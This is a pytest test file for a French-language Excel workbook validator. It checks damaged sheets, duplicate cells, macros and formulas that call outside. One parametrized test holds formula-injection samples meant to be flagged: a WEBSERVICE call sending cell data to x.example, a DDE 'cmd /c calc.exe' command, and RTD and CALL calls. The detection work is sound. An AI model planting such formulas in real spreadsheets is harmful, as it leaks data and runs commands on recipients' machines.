"""A sheet that could not be read, or that programs read differently, is never passed over."""

from __future__ import annotations

import pytest
from lxml import etree

from tests.atelier import Workshop, q
from tests.corpus.cas import controler
from xl_cpom.validators.model import BLOQUANT, Report, Verdict
from xl_cpom.workbook.sheets import SHEETS

SHEET_NAMES = [*(sheet.name for sheet in SHEETS.values()), "Accueil", "Listes"]


def codes(report: Report) -> list[tuple[str, str]]:
    return [(f.code, f.sheet) for f in report.findings]


@pytest.mark.parametrize("sheet", SHEET_NAMES)
def test_a_damaged_sheet_is_blocking_and_named(sheet: str) -> None:
    workshop = Workshop()
    part = workshop.partie(sheet)
    workshop.membres[part] = workshop.membres[part][: len(workshop.membres[part]) // 2]
    report = controler(workshop.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    finding = next(f for f in report.findings if f.code == "STR-037")
    assert finding.sheet == sheet and finding.severity is BLOQUANT
    assert sheet in finding.message and "interrompu" in finding.message
    assert not {f.code for f in report.findings} & {"STR-002", "STR-030"}  # said once


def test_a_damaged_sheet_beside_the_template_is_blocking_too() -> None:
    workshop = Workshop().add_sheet("Brouillon")
    part = workshop.partie("Brouillon")
    del workshop.trees[part]
    workshop.membres[part] = b"<worksheet"
    report = controler(workshop.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    assert ("STR-037", "Brouillon") in codes(report)


def test_a_sheet_without_content_is_said() -> None:
    workshop = Workshop()
    del workshop.membres[workshop.partie("Plan d'actions")]
    report = controler(workshop.octets())
    assert report.verdict is Verdict.NON_RECEVABLE
    assert ("STR-002", "Plan d'actions") in codes(report)


def test_a_cell_written_twice_is_said_with_its_address() -> None:
    workshop = Workshop()
    row = workshop._row(workshop.feuille("Plan d'actions"), 6)
    row.append(etree.fromstring(etree.tostring(row[2])))
    report = controler(workshop.octets())
    (finding,) = (f for f in report.findings if f.code == "STR-038")
    assert finding.sheet == "Plan d'actions" and finding.cells == (row[2].get("r"),)
    assert report.verdict is Verdict.WITH_RESERVES


def test_macros_are_said() -> None:
    workshop = Workshop()
    workshop.membres["xl/vbaProject.bin"] = b"\0" * 64
    report = controler(workshop.octets())
    assert codes(report) == [("STR-039", "")]


@pytest.mark.parametrize(
    ("formula", "name"),
    [('_xlfn.WEBSERVICE("http://x.example/?"&amp;A1)', "WEBSERVICE"),
     ("cmd|'/c calc.exe'!A0", "CMD"), ('RTD("x",,"y")', "RTD"), ('CALL("k","v")', "CALL")],
)  # fmt: skip
def test_a_formula_that_calls_out_is_said(formula: str, name: str) -> None:
    workshop = Workshop()
    workshop.formule("Accueil", "H40", formula, "x")
    report = controler(workshop.octets())
    (finding,) = report.findings
    assert (finding.code, finding.sheet, finding.cells) == ("STR-040", "Accueil", ("H40",))
    assert name in finding.message


def test_the_shipped_example_calls_nobody() -> None:
    workshop = Workshop()
    assert any(cell.find(q("f")) is not None for cell in workshop.feuille("Indicateurs").iter())
    assert controler(workshop.octets()).findings == ()
